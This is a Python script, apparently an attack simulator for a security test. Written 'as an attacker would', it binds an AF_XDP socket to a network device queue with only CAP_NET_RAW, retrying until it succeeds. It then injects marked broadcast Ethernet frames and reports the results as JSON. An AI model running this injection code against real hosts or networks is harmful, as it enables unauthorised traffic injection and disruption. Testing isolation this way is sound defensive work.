"""A sender over AF_XDP, as an attacker would write it. Stand-alone, so that it can run with CAP_NET_RAW and no more.

    python xdp_attack.py DEVICE QUEUE FLAGS FRAMES MARKER [seconds to go on trying]

Prints one JSON document: what the bind was answered, how many frames the kernel took, how many binds were tried.
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import socket
import struct
import sys
import time
from typing import Any

AF_XDP, SOL_XDP = 44, 283
RX_RING, TX_RING, UMEM_REG, FILL_RING, COMPLETION_RING, MMAP_OFFSETS = 2, 3, 4, 5, 6, 1
TX_RING_AT, COMPLETION_RING_AT = 0x80000000, 0x180000000
CHUNK_BYTES, CHUNKS = 2048, 64
BROADCAST = b"\xff" * 6

libc = ctypes.CDLL(None, use_errno=True)


def open_socket() -> tuple[socket.socket, mmap.mmap]:
    raw = socket.socket(AF_XDP, socket.SOCK_RAW)
    memory = mmap.mmap(-1, CHUNK_BYTES * CHUNKS)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    raw.setsockopt(SOL_XDP, UMEM_REG, struct.pack("=QQII", address, len(memory), CHUNK_BYTES, 0))
    for ring in (FILL_RING, COMPLETION_RING, TX_RING):
        raw.setsockopt(SOL_XDP, ring, struct.pack("=i", CHUNKS))
    return raw, memory


def bind(raw: socket.socket, index: int, queue: int, flags: int, shared_descriptor: int = 0) -> str:
    address = struct.pack("=HHIII", AF_XDP, flags, index, queue, shared_descriptor)
    if libc.bind(raw.fileno(), address, len(address)) == 0:
        return "bound"
    return errno.errorcode[ctypes.get_errno()]


def transmit(raw: socket.socket, memory: mmap.mmap, frame: bytes, count: int) -> int:
    """Send `count` copies, a ring at a time; returns how many the kernel has taken."""
    offsets = struct.unpack("=16Q", raw.getsockopt(SOL_XDP, MMAP_OFFSETS, 128))
    producer, consumer, descriptors = offsets[4:7]
    completed, collected = offsets[12:14]
    ring = mmap.mmap(raw.fileno(), descriptors + 16 * CHUNKS, offset=TX_RING_AT)
    done = mmap.mmap(raw.fileno(), offsets[14] + 8 * CHUNKS, offset=COMPLETION_RING_AT)
    memory[: len(frame)] = frame
    for number in range(count):
        at = descriptors + 16 * (number % CHUNKS)
        ring[at : at + 16] = struct.pack("=QII", 0, len(frame), 0)
        ring[producer : producer + 4] = struct.pack("=I", number + 1)
        raw.send(b"", socket.MSG_DONTWAIT)
        done[collected : collected + 4] = done[completed : completed + 4]
    taken: int = struct.unpack("=I", ring[consumer : consumer + 4])[0]
    return taken


def attack(device: str, queue: int, flags: int, *, frames: int, marker: bytes, seconds: float) -> dict[str, Any]:
    index = socket.if_nametoindex(device)
    frame = BROADCAST + b"\x02\0\0\0\0\x66" + b"\x08\x00" + marker + bytes(60)
    give_up_at_s, tries = time.monotonic() + seconds, 0
    while True:
        raw, memory = open_socket()
        answer = bind(raw, index, queue, flags)
        tries += 1
        if answer == "bound" or time.monotonic() >= give_up_at_s:
            break
        raw.close()
    taken = transmit(raw, memory, frame, frames) if answer == "bound" else 0
    return {"bind": answer, "taken": taken, "tries": tries}


def main() -> None:
    device, queue, flags, frames, marker, *seconds = sys.argv[1:]
    limit_s = float(seconds[0]) if seconds else 0.0
    report = attack(device, int(queue), int(flags), frames=int(frames), marker=marker.encode(), seconds=limit_s)
    sys.stdout.write(json.dumps(report) + "\n")


if __name__ == "__main__":
    main()
